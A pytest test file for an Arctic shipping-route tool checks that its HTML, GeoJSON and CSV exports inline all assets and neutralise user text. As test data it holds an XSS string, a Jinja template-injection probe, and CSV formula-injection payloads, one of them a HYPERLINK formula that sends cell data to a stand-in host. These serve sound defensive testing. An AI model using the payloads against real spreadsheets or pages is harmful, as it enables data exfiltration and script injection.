"""Stand-alone HTML, GeoJSON and CSV exports."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest

from arctic_routes.cli import main
from arctic_routes.export import lengths_csv, routes_geojson, standalone_html
from arctic_routes.mapview import MapOptions
from arctic_routes.routes import lengths_table, load_routes
from arctic_routes.tracks import load_track_file

HOSTILE = "<img src=x onerror=alert(1)>"


class _Loads(HTMLParser):
    """Collects what real elements would fetch (script bodies are not parsed as tags)."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name in ("src", "href") and value and tag != "a":
                self.urls.append(value)
        if tag == "link":
            self.urls.append(dict(attrs).get("href") or "<link>")


def remote_loads(page: str) -> list[str]:
    """Every element that would make the browser fetch something (all are remote in a file:// page)."""
    parser = _Loads()
    parser.feed(page)
    return [u for u in parser.urls if not u.startswith(("data:", "#"))]


def test_standalone_html_inlines_everything(routes):
    page = standalone_html(routes, MapOptions(route_ids=("tsr-pole", "nwp-mcclure")))
    assert remote_loads(page) == []
    assert "L.map(" in page and "Leaflet 1.9.3" in page
    assert "jQuery" not in page and "jquery" not in page  # nothing on the map uses it: 87 KB saved
    # Drawn routes carry a tooltip "<name>: <length> <unit>"; routes not chosen have none.
    assert "Trans-Arctic route over the North Pole: 2,114 nm" in page
    mcclure_nm = routes.loc["nwp-mcclure", "length_m"] / 1852
    assert f"Northwest Passage via M\\u0026#x27;Clure Strait: {mcclure_nm:,.0f} nm" in page  # apostrophe escaped
    assert "Northeast Passage, coastal (Northern Sea Route): " not in page


def test_geojson_export_round_trips(routes, tmp_path):
    path = tmp_path / "out.geojson"
    path.write_text(routes_geojson(routes, ["nep-coastal", "tsr-pole"]))
    again = load_routes(path)
    assert list(again.index) == ["nep-coastal", "tsr-pole"]
    ours = lengths_table(again).set_index("id")["length_km"]
    for rid in again.index:
        assert again.loc[rid, "length_km"] == pytest.approx(ours[rid], abs=0.06)


def test_csv_export(routes):
    rows = list(csv.DictReader(io.StringIO(lengths_csv(routes, ["nwp-peel-sound"]))))
    assert len(rows) == 1 and rows[0]["id"] == "nwp-peel-sound" and float(rows[0]["length_nm"]) > 2000


def test_cli_export_html_with_user_file(tmp_path, capsys):
    track = tmp_path / "track.geojson"
    track.write_text(json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"name": HOSTILE},
         "geometry": {"type": "LineString", "coordinates": [[170.0, 70.0], [-170.0, 71.0], [-160.0, 72.0]]}}]}))
    out = tmp_path / "map.html"
    assert main(["export-html", "--out", str(out), "--routes", "tsr-pole", "--file", str(track)]) == 0
    page = out.read_text()
    assert HOSTILE not in page  # the name only ever appears escaped
    assert "\\u0026lt;img src=x onerror=alert(1)\\u0026gt;" in page  # HTML-escaped, then JSON-escaped
    assert remote_loads(page) == []


@pytest.mark.parametrize(("argv", "problem"), [
    (["--routes", "no-such-route"], "--routes: unknown route id no-such-route; known: "),  # refused by main
    (["--routes", "tsr-pole", "--unit", "leagues"], "argument --unit: invalid choice: 'leagues'"),  # by argparse
], ids=["unknown-route", "unknown-unit"])
def test_cli_export_html_bad_input(tmp_path, capsys, argv, problem):
    out = tmp_path / "m.html"
    try:
        code = main(["export-html", "--out", str(out), *argv])
    except SystemExit as exc:  # argparse exits before main's own checks run
        code = exc.code
    stdout, err = capsys.readouterr()
    assert code == 2
    assert len(err.splitlines()) == 1 and err.startswith("arctic-routes: error: ") and problem in err, err
    assert stdout == "" and not out.exists()


def test_cli_export_html_refuses_other_suffix(tmp_path, capsys):
    assert main(["export-html", "--out", str(tmp_path / "map.png")]) == 2
    assert ".html" in capsys.readouterr().err


def test_text_is_never_evaluated_as_a_template(tmp_path):
    """A track name or title with Jinja syntax comes out as written (branca would evaluate it)."""
    track = tmp_path / "t.geojson"
    track.write_text('{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"name": "X{{ 7*7 }}Y"},'
                     ' "geometry": {"type": "LineString", "coordinates": [[0, 80], [10, 81]]}}]}')
    routes = load_track_file(track)
    page = standalone_html(routes, MapOptions(route_ids=tuple(routes.index)), title="T{{ 7*7 }}")
    assert "X{{ 7*7 }}Y" in page and "X49Y" not in page
    assert "<title>T{{ 7*7 }}</title>" in page


def test_html_export_carries_the_voyage_title_subtitle_ice_and_view(routes):
    from arctic_routes.export import voyage_csv
    from arctic_routes.navigation import assess
    from arctic_routes.voyage import compare

    found = assess(compare("Rotterdam", "Yokohama"), month=3, ship="ordinary")
    page = standalone_html(routes, MapOptions(("tsr-pole",), layers=frozenset({"ice"}), month=3),
                           title="Arctic <trade>", subtitle="In March", assessment=found, view=(-500.0, 250.0, -11.5))
    assert remote_loads(page) == []
    assert "<h1>Arctic &lt;trade&gt;</h1>" in page and "<p>In March</p>" in page
    assert "Sea ice, March" in page  # the ice key of the month drawn
    assert "Rotterdam → Yokohama, March, a ship without ice class at 14 kn" in page
    assert "Fastest open option: via Suez." in page
    assert "no: closed December-June to ships without ice class" in page
    assert ".setView([250000.0, -500000.0], -11.5" in page
    assert page.startswith("<!DOCTYPE html>") and '<html lang="en">' in page
    rows = list(csv.DictReader(io.StringIO(voyage_csv(found))))
    assert {r["voyage"] for r in rows} >= {"via Suez", "Trans-Arctic route over the North Pole"}
    tsr = next(r for r in rows if r["voyage"] == "Trans-Arctic route over the North Pole")
    assert tsr["open"] == "False" and tsr["why_not"].startswith("icebreaker only") and tsr["month"] == "3"
    # Closed: no sailing time, an empty cell as for any value that does not exist; its length stays.
    assert tsr["days"] == "" and float(tsr["length_nm"]) > 0 and float(tsr["saving_pct"]) > 0
    suez = next(r for r in rows if r["voyage"] == "via Suez")
    assert float(suez["days"]) > 0 and suez["arctic_ice_nm"] == "0.0"
    assert 0 < float(tsr["arctic_ice_nm"]) <= float(tsr["ice_nm"])
    # The table under the map: a dash for the closed option's days.
    tsr_row = next(r for r in re.findall(r"<tr[^>]*>.*?</tr>", page) if "Trans-Arctic route over the North Pole" in r)
    assert 'class="closed"' in tsr_row and '<td class="num">—</td>' in tsr_row


def test_cli_export_html_with_a_voyage_month_and_subtitle(tmp_path, capsys):
    out = tmp_path / "voyage.html"
    assert main(["export-html", "--out", str(out), "--voyage", "Rotterdam", "Yokohama", "--title", "T",
                 "--subtitle", "In March", "--month", "3", "--view=-500,250,-11.5"]) == 0
    page = out.read_text()
    assert remote_loads(page) == []
    assert "<h1>T</h1>" in page and "<p>In March</p>" in page
    assert "Rotterdam \\u2192 Yokohama" in page or "Rotterdam → Yokohama" in page  # the voyage key on the map
    assert "Fastest open option: via Suez." in page  # March, no ice class
    assert "Sea ice, March" in page
    assert main(["export-html", "--out", str(out), "--view", "0,0,99"]) == 2
    assert "--view must be x_km,y_km,zoom" in capsys.readouterr().err


# ---- what the user typed stays text in every CSV ------------------------------------------------------------


FORMULAS = ["=HYPERLINK(\"http://evil.example/\"&A1)", "+1+2", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]


def _formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: starting with = + @ tab CR, or - before something that is not a number."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")
            or (cell[:1] == "-" and not cell.lstrip("-").replace(".", "", 1).isdigit())]


def test_no_csv_the_project_writes_starts_a_cell_with_a_formula(tmp_path, capsys):
    from arctic_routes.cli import main as cli
    from arctic_routes.export import lengths_csv
    from arctic_routes.reports import format_lengths, format_measure
    from arctic_routes.routes import lengths_table
    from arctic_routes.tracks import load_track

    features = [{"type": "Feature", "properties": {"name": name},
                 "geometry": {"type": "LineString", "coordinates": [[0, 70], [i + 1, 71]]}}
                for i, name in enumerate(FORMULAS)]
    path = tmp_path / "evil.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    tracks = load_track(path.name, path.read_bytes())
    assert cli(["measure", str(path), "--format", "csv"]) == 0
    written = [lengths_csv(tracks, list(tracks.index)), format_lengths(lengths_table(tracks), "csv"),
               format_measure(tracks, "csv"), capsys.readouterr().out]
    for text in written:
        assert "'=HYPERLINK" in text and "'@SUM(A1:A2)" in text  # the names are there, as text
        assert _formula_cells(text) == [], text


def test_negative_numbers_stay_numbers_in_a_csv():
    import pandas as pd

    from arctic_routes.plaintext import csv_text

    assert csv_text(pd.DataFrame({"saving_pct": [-12.5, 3.0], "name": ["-x", "ok"]})) == \
        "saving_pct,name\n-12.5,'-x\n3.0,ok\n"


def test_the_exported_map_carries_its_months_ice_every_year_inline():
    from arctic_routes.export import standalone_html
    from arctic_routes.mapview import MapOptions
    from arctic_routes.routes import load_routes

    page = standalone_html(load_routes(), MapOptions(route_ids=("tsr-pole",), month=9))
    section = page[page.index("Sea ice in September, every year"):]
    assert '<svg role="img" aria-label="Chart of the Arctic&#x27;s sea-ice extent in September' in section
    assert "In September 2025 the ice covered 4.75 million km²" in section and "3.57 in 2012" in section
    assert "<?xml" not in page and "<!DOCTYPE svg" not in page
    march = standalone_html(load_routes(), MapOptions(route_ids=("tsr-pole",), month=3))
    assert "Sea ice in March, every year" in march and "record low was 14.12 in 2025" in march
